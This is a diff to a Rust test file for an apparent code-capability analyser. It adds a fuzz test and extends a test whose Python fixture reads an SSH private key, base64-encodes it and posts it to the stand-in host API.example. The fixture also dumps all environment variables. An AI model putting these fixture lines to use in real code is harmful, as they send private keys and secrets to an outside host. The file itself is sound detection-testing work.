@@ -2,6 +2,8 @@
 
 use std::fmt::Write as _;
 
+use proptest::prelude::*;
+
 use crate::budget::Budget;
 use crate::finding::Capability;
 use crate::language::Language;
@@ -94,7 +96,7 @@ fn the_same_code_has_the_same_findings() {
 
 #[test]
 fn capabilities_are_told_with_what_they_act_on() {
-    let code = "import requests, os, base64, subprocess\ndef read():\n    return open('/home/u/.ssh/id_rsa').read()\ndef enc(x):\n    return base64.b64encode(x)\ndef send(x):\n    requests.post('https://API.example:8443/a', data=x)\nsubprocess.run(['git', 'log'])\nos.getenv('A_B')\nopen('out.txt', 'w')\n";
+    let code = "import requests, os, base64, subprocess\ndef read():\n    return open('/home/u/.ssh/id_rsa').read()\ndef enc(x):\n    return base64.b64encode(x)\ndef send(x):\n    requests.post('https://API.example:8443/a', data=x)\nsubprocess.run(['git', 'log'])\nsubprocess.run(['npm', 'install', 'left-pad'])\nprint(dict(os.environ))\nos.getenv('A_B')\nopen('out.txt', 'w')\n";
     let text = Text::new(0, code, Language::Python, Role::File, 1);
     let output = analyse(&Snippet::of(code), &text, &mut Budget::new(None)).unwrap();
     let has = |capability, detail: &str| {
@@ -110,4 +112,84 @@ fn capabilities_are_told_with_what_they_act_on() {
     assert!(has(Capability::Exec, "git"));
     assert!(has(Capability::Environment, "A_B"));
     assert!(has(Capability::Write, "out.txt"));
+    assert!(has(Capability::WholeEnvironment, ""));
+    assert!(has(Capability::Install, "left-pad"));
+}
+
+/// Pieces of code that mean something to the analysis, in any order.
+fn pieces() -> impl Strategy<Value = String> {
+    let piece = prop::sample::select(vec![
+        "import os\n",
+        "from base64 import b64decode as d\n",
+        "exec(",
+        "eval(",
+        "d(",
+        "getattr(",
+        "os.environ",
+        "process.env",
+        "['A']",
+        ".get(",
+        ")",
+        "(",
+        "[",
+        "]",
+        "{",
+        "}",
+        "'a%s{}'",
+        "\"é\\x41\"",
+        "`${",
+        "f'{",
+        "+",
+        "%",
+        " if ",
+        "for x in ",
+        "=>",
+        "function f(a) {",
+        "def f(a):\n ",
+        "return ",
+        "x = ",
+        "x += ",
+        "requests.post('https://h.example', ",
+        "data=",
+        ".join(",
+        ".format(",
+        "[::-1]",
+        ".split('')",
+        "\n",
+        " ",
+        ";",
+        ",",
+        "lambda a: ",
+        "await ",
+        "new ",
+        "class A:\n ",
+        "self.x",
+        "1",
+        "0x",
+        "-1",
+        "<<",
+        ">>> ",
+        "...",
+        "#",
+        "//",
+        "/*",
+        "\"\"\"",
+        "chr(",
+        "while True:\n ",
+        "\u{202e}",
+        "\0",
+    ]);
+    prop::collection::vec(piece, 0..60).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #[test]
+    fn no_order_of_pieces_does_harm(code in pieces()) {
+        for language in [Language::Python, Language::JavaScript, Language::TypeScript] {
+            let text = Text::new(0, code.as_str(), language, Role::File, 1);
+            let mut budget = Budget::new(None);
+            super::super::inner_texts(&text, &mut budget);
+            prop_assert!(analyse(&Snippet::of(&code), &text, &mut budget).is_some());
+        }
+    }
 }
